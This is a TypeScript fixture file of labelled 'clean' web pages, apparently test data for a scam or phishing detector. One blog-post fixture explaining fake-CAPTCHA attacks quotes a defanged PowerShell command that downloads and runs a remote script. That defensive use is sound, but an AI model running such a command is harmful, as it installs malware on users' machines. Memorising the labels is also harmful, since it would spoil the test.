import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, footer, nav, tracker, trackerRoute, cookieBanner, pngRoute, jsRoute, jsonRoute, fileRoute } from '../parts/p-kit.js';
import { pe, zip, cfb } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'p-clean-article-clickfix-explainer-blog',
  label: 'clean',
  kind: 'security-article',
  url: 'https://blog.bluepeak-msp.com/2026/11/fake-captcha-win-r-attacks-explained',
  body: doc({
    lang: 'en',
    title: 'Fake CAPTCHA "press Win+R" attacks explained – BluePeak IT Blog',
    css: '.w{max-width:760px;margin:0 auto;padding:20px}pre{background:#1e1e1e;color:#dcdcdc;padding:12px;overflow:auto;font-size:13px;border-radius:6px}',
    body: `${nav('BluePeak IT', ['Services', 'Blog', 'Support', 'Contact'], '#fff', '#0c4a6e')}
<div class="w"><h1>Fake CAPTCHA "press Win+R" attacks explained</h1><p style="color:#666;font-size:14px">Posted by Dan Whitfield, Security Lead · 19 Nov 2026</p>
<p>Several of our clients' staff have hit a new kind of trap this month: a web page (often a hacked small-business site) shows what looks like a Cloudflare or reCAPTCHA check. After ticking the box, the page tells you to press <b>Windows + R</b>, then <b>Ctrl + V</b>, then <b>Enter</b>.</p>
<p>What actually happens is that the page has silently copied a command into your clipboard. A typical example we recovered (defanged):</p>
<pre>powershell -w hidden -c "iex(irm hxxps://example[.]invalid/s.ps1)"  # ✅ I am not a robot</pre>
<p>The comment at the end is there so that the Run box only shows the harmless-looking text. The downloaded script usually installs an information stealer.</p>
<h2>How to protect your team</h2><ul><li>No real CAPTCHA will ever ask you to run anything on your computer.</li><li>Block the Run dialog via Group Policy for non-admin users where practical.</li><li>Enable PowerShell script-block logging and alert on <code>iex</code> with web downloads.</li></ul>
<p>If you think you ran one of these commands, disconnect from the network and call our support line straight away: 0161 555 0190.</p></div>
${footer([['BluePeak IT', 'Managed IT for SMEs in Manchester']], '© 2026 BluePeak Managed Services Ltd')}`,
  }),
},
{
  id: 'p-clean-article-fake-shops-guide-de',
  label: 'clean',
  kind: 'scam-article',
  url: 'https://www.verbraucherzentrale-ratgeber.de/digitale-welt/fakeshops-erkennen',
  body: doc({
    lang: 'de',
    title: 'Fake-Shops erkennen: Diese Warnsignale sollten Sie kennen | Verbraucher-Ratgeber',
    css: '.w{max-width:780px;margin:0 auto;padding:20px}.box{background:#f3f8ec;padding:14px;border-radius:6px}',
    body: `${nav('Verbraucher-Ratgeber', ['Geld & Versicherungen', 'Digitale Welt', 'Energie', 'Reise'], '#fff', '#5b8c2a')}
<div class="w"><h1>Fake-Shops erkennen: Diese Warnsignale sollten Sie kennen</h1><p>Sneaker für 25 Euro, Gartenmöbel zum Bruchteil des Preises: Gerade vor Weihnachten locken betrügerische Online-Shops mit unrealistischen Rabatten. Wer bestellt, zahlt – und bekommt nie Ware.</p>
<h2>Typische Warnsignale</h2><ul><li>Extrem niedrige Preise („-80% Lagerräumung“, „Wir schließen“)</li><li>Am Ende der Bestellung ist nur noch Vorkasse per Überweisung möglich – oft auf ein ausländisches Konto</li><li>Impressum fehlt, ist unvollständig oder kopiert</li><li>Gütesiegel ohne Link zum Zertifikat</li><li>Kontakt nur über Freemail-Adressen</li></ul>
<div class="box"><b>Tipp:</b> Prüfen Sie unbekannte Shops mit dem Fakeshop-Finder der Verbraucherzentrale, bevor Sie bestellen. Zahlen Sie möglichst mit Verfahren mit Käuferschutz.</div>
<h2>Schon bezahlt?</h2><p>Kontaktieren Sie sofort Ihre Bank und bitten Sie um Rückholung der Überweisung. Erstatten Sie Anzeige bei der Polizei (auch online möglich).</p></div>
${footer([['Verbraucher-Ratgeber', 'Über uns', 'Newsletter', 'Kontakt']], '© 2026 Verbraucher-Ratgeber e.V. · Impressum · Datenschutz')}`,
  }),
},
{
  id: 'p-clean-animal-shelter-bank-transfer-it',
  label: 'clean',
  kind: 'charity-appeal',
  url: 'https://www.canilecuoreamico.it/dona',
  body: doc({
    lang: 'it',
    title: 'Dona – Rifugio Cuore Amico ODV, Bergamo',
    css: '.w{max-width:760px;margin:0 auto;padding:20px}.iban{background:#fdf6e9;padding:12px;font-family:monospace}',
    body: `${nav('Rifugio Cuore Amico', ['Chi siamo', 'Adozioni', 'Volontariato', 'Dona', 'Contatti'], '#fff', '#a0522d')}
<div class="w"><h1>Aiutaci a prenderci cura di 84 cani e 30 gatti</h1><p>Il rifugio vive solo di donazioni e del lavoro dei volontari. Con 20 € copri una settimana di cibo per un cane; con 50 € una visita veterinaria.</p>
<h3>Bonifico bancario</h3><div class="iban">Intestatario: Associazione Cuore Amico ODV<br>IBAN: IT60 X054 2811 1010 0000 0123 456<br>Causale: Donazione liberale</div>
<h3>5 per mille</h3><p>Nella dichiarazione dei redditi indica il codice fiscale <b>95023410163</b>.</p>
<p>Le donazioni sono deducibili. Pubblichiamo ogni anno il bilancio sul sito. Per ricevuta scrivi a tesoriere@canilecuoreamico.it.</p></div>
${footer([['Rifugio Cuore Amico ODV', 'Via dei Campi 8, Bergamo', 'Iscritta al RUNTS']], '© 2026 Associazione Cuore Amico ODV · Privacy · Cookie')}`,
  }),
},
{
  id: 'p-clean-printer-driver-download',
  label: 'clean',
  kind: 'software-download',
  url: 'https://support.kanomi-imaging.com/en-gb/drivers/pixmark-ts5350/windows-11',
  body: doc({
    lang: 'en-GB',
    title: 'PIXMARK TS5350 drivers for Windows 11 – Kanomi Support',
    css: '.w{max-width:880px;margin:0 auto;padding:20px}.d{border:1px solid #ddd;border-radius:6px;padding:14px;margin:10px 0;display:flex;justify-content:space-between;align-items:center;flex-wrap:wrap}',
    body: `${nav('Kanomi Support', ['Product support', 'Drivers & software', 'Contact', 'Register'], '#fff', '#cc0000')}
<div class="w"><h1>PIXMARK TS5350 – Drivers & Software</h1><p>Operating system: Windows 11 (64-bit) <a href="#">Change</a></p>
<div class="d"><div><b>TS5350 MP Drivers Ver. 1.07</b><br><span style="font-size:13px">Released 04 Sep 2026 · 42.1 MB · tsm5-win-1_07-ea34_2.exe</span></div><button onclick="location.href='/en-gb/drivers/files/tsm5-win-1_07-ea34_2.exe'" style="background:#cc0000;color:#fff;border:0;padding:10px 20px">Download</button></div>
<div class="d"><div><b>IJ Scan Utility Ver. 2.3.12</b><br><span style="font-size:13px">Released 11 Jun 2026 · 30.4 MB</span></div><button style="background:#cc0000;color:#fff;border:0;padding:10px 20px">Download</button></div>
<p style="font-size:13px">By downloading you accept the software licence agreement. For help call 0344 369 0100.</p></div>
${footer([['Kanomi UK', 'Privacy', 'Cookies', 'Accessibility']], '© Kanomi Europe Ltd 2026')}`,
  }),
  routes: {
    'support.kanomi-imaging.com/en-gb/drivers/files/tsm5-win-1_07-ea34_2.exe': fileRoute(pe({ strings: ['Kanomi Inkjet Printer Driver', 'CompanyName Kanomi Inc.'], size: 8192 }), 'application/octet-stream', 'tsm5-win-1_07-ea34_2.exe'),
  },
},
{
  id: 'p-clean-remote-support-msp-quicksupport',
  label: 'clean',
  kind: 'remote-support',
  url: 'https://support.bluepeak-msp.com/remote',
  body: doc({
    lang: 'en-GB',
    title: 'Remote support session – BluePeak IT',
    css: '.c{max-width:620px;margin:30px auto;padding:0 16px}ol li{margin:6px 0}',
    body: `${nav('BluePeak IT Support', ['Raise a ticket', 'Remote session', 'Status', 'Knowledge base'], '#fff', '#0c4a6e')}
<div class="c"><h1 style="font-size:24px">Start a remote support session</h1><p>Only do this if you are already on the phone with a BluePeak engineer or have an open ticket. Our engineers will tell you their name and your ticket number.</p>
<ol><li>Download the BluePeak QuickSupport tool below.</li><li>Run it – no installation needed.</li><li>Read your 9-digit session ID to the engineer.</li></ol>
<a href="/remote/BluePeak-QuickSupport.exe" style="display:inline-block;background:#0c4a6e;color:#fff;padding:12px 24px;text-decoration:none;border-radius:4px">Download QuickSupport (Windows)</a>
<p style="font-size:13px;color:#555;margin-top:20px">BluePeak will never call you out of the blue about a virus, and we never ask for payment by gift card. The session ends when you close the window.</p></div>
${footer([['BluePeak Managed Services', 'Manchester', '0161 555 0190']], '© 2026 BluePeak Managed Services Ltd')}`,
  }),
  routes: {
    'support.bluepeak-msp.com/remote/BluePeak-QuickSupport.exe': fileRoute(pe({ strings: ['BluePeak QuickSupport', 'Remote desktop client', 'CompanyName BluePeak Managed Services Ltd'], size: 8192 }), 'application/octet-stream', 'BluePeak-QuickSupport.exe'),
  },
},
{
  id: 'p-clean-forum-captcha-challenge',
  label: 'clean',
  kind: 'bot-check',
  url: 'https://forum.aquaristik-treff.de/threads/welche-co2-anlage.48812/',
  body: doc({
    lang: 'de',
    title: 'Einen Moment bitte… | Aquaristik-Treff',
    css: 'body{background:#f8f9fa}.c{max-width:500px;margin:12vh auto;text-align:center}.cb{display:inline-flex;gap:12px;align-items:center;border:1px solid #ddd;background:#fff;padding:14px 20px;border-radius:4px}',
    body: `<div class="c"><h1 style="font-weight:500">forum.aquaristik-treff.de</h1><p>Wir prüfen kurz, ob Sie ein Mensch sind. Das schützt unser Forum vor Spam-Bots.</p>
<div class="cb"><input type="checkbox" id="k" style="width:22px;height:22px"><label for="k">Ich bin ein Mensch</label></div><p id="s" style="font-size:13px;color:#666"></p>
<p style="font-size:12px;color:#999;margin-top:40px">Schutz durch FriendlyCheck · Datenschutz</p></div>
<script>document.getElementById('k').onchange=function(){var s=document.getElementById('s');s.textContent='Prüfung läuft…';fetch('/__check/verify',{method:'POST',body:JSON.stringify({t:Date.now(),w:screen.width})}).then(function(r){return r.json()}).then(function(j){if(j.ok){document.cookie='fc_pass='+j.token+';path=/;max-age=3600';s.textContent='Erfolgreich. Sie werden weitergeleitet…';setTimeout(function(){location.href='/threads/welche-co2-anlage.48812/?fc=1'},800)}})}</script>`,
  }),
  routes: {
    'forum.aquaristik-treff.de/__check/verify': jsonRoute({ ok: true, token: 'a81fd02c' }),
  },
},
];
